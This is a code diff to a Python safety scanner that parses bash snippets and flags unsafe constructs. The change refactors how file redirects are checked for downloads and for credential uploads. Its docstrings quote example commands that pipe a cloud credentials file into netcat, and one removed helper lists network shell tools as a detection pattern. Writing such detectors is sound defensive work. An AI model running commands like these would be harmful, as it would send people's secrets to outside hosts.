@@ -45,6 +45,7 @@ from skillforge.safety.shell_rules import (
     upload_args,
     uploads,
 )
+from skillforge.safety.shell_scope import CommandIndex, Scope, scope_of
 from skillforge.safety.snippets import SNIPPET_KEYS, snippets
 from skillforge.text import parse
 
@@ -88,6 +89,7 @@ def analyse(
 ) -> Iterator[tuple[str, str, str, Any, tuple[str, ...]]]:
     """(rule, message, confidence, node, download hosts) for every unsafe construct of one snippet."""
     root = parse("bash", snippet)
+    index = CommandIndex(root, _walk, words)
     for node in _walk(root):
         kind = node.type
         found: Iterator[tuple[str, str, str]] = iter(())
@@ -96,15 +98,13 @@ def analyse(
         elif kind == "declaration_command":  # export X=0
             found = tls_off(["export", *_text(node).split()[1:]])
         elif kind == "command":
-            ws = words(node)
+            ws = index.words_of(node)
             ran = _runs_file(ws, files, snippet_id)
             if ran is not None:
                 yield (*ran, node, files[_ran_name(ws, files)][2])
-            _redirect_writes(node, files, snippet_id, [ws])
-            found = chain(_command(node, ws, files, snippet_id), _redirect_upload(node, [ws]))
+            found = chain(_command(node, ws, files, snippet_id), _redirects(node, files, snippet_id, index))
         elif kind == "redirected_statement":
-            _redirect_writes(node, files, snippet_id)
-            found = _redirect_upload(node)
+            found = _redirects(node, files, snippet_id, index)
         for rule, message, conf in found:
             yield rule, message, conf, node, ()
 
@@ -315,53 +315,46 @@ def _download_targets(ws: list[str]) -> set[str]:
     return {o for o in out if o and o != "-"}
 
 
-def _redirected(node: Any, own: list[list[str]] | None) -> tuple[list[list[str]], list[Any]]:
-    """A statement's commands' words and its file redirects, wherever written: after (``nc h 1 < f``,
-    a redirected statement) or before the command's name (``< f nc h 1``: ``own``, the command's own
-    words, which its redirects are about; commands nested in its arguments are visited on their own,
-    so walking them again here cost quadratic time in the nesting)."""
+def _redirects(
+    node: Any, files: Files, snippet_id: int, index: CommandIndex
+) -> Iterator[tuple[str, str, str]]:
+    """A statement's file redirects, wherever written: after (``nc h 1 < f``, a redirected statement:
+    about every command of its body) or before a command's name (``< f nc h 1``: about that command's
+    own words; commands nested in its arguments are visited on their own)."""
     redirects = [child for child in node.children if child.type == "file_redirect"]
-    if own is not None or not redirects:
-        return own or [], redirects  # a command's own words; a statement without redirects: none needed
-    body = node.child_by_field_name("body") or (node.children[0] if node.children else None)
-    cmds = [] if body is None else [words(c) for c in _walk(body) if c.type == "command"]
-    return cmds, redirects
+    if not redirects:
+        return iter(())
+    if node.type == "command":
+        scope = scope_of([index.words_of(node)])
+    else:
+        body = node.child_by_field_name("body") or node.children[0]
+        scope = index.scope(body)
+    _redirect_writes(redirects, files, snippet_id, scope)
+    return _redirect_upload(redirects, scope)
 
 
 _WRITES = frozenset({">", ">>", "&>", "&>>", ">|"})
 
 
-def _redirect_writes(node: Any, files: Files, snippet_id: int, own: list[list[str]] | None = None) -> None:
-    cmds, redirects = _redirected(node, own)
-    if any(is_downloader(w) or is_decoder(w) for w in cmds):
-        urls = [w for ws in cmds for w in ws if "://" in w]
-        entry = (
-            snippet_id,
-            not urls or any(u.startswith("http://") for u in urls),
-            tuple(host_of(u) for u in urls),
-        )
+def _redirect_writes(redirects: list[Any], files: Files, snippet_id: int, scope: Scope) -> None:
+    """A download's or decode's output written to a file (``curl u > f``): ``f`` is a fetched file."""
+    if scope.fetches:
+        entry = (snippet_id, scope.plain, scope.hosts)
         for child in redirects:
             if any(c.type in _WRITES for c in child.children):  # > f, >> f, &> f (not < f)
                 files[base(_text(child.children[-1]).strip("\"'"))] = entry
 
 
-def _redirect_upload(node: Any, own: list[list[str]] | None = None) -> Iterator[tuple[str, str, str]]:
+def _redirect_upload(redirects: list[Any], scope: Scope) -> Iterator[tuple[str, str, str]]:
     """``nc host 443 < ~/.aws/credentials``: a credential file fed to a network command."""
-    cmds, redirects = _redirected(node, own)
-    network = [w for w in cmds if w and _network(w)]
     for child in redirects:
         text = _text(child).strip()
-        if network and text.startswith("<") and sensitive(text):
+        if scope.network and text.startswith("<") and sensitive(text):
             yield (
                 "credential-upload",
-                f"feeds a credential file to the network ({base(network[0][0])})",
+                f"feeds a credential file to the network ({base(scope.network[0])})",
                 "high",
             )
-            return
-
-
-def _network(ws: list[str]) -> bool:
-    return is_downloader(ws) or base(ws[0]) in ("nc", "ncat", "netcat", "socat")
 
 
 def _env_assignments(node: Any) -> Iterator[tuple[str, str, str]]:
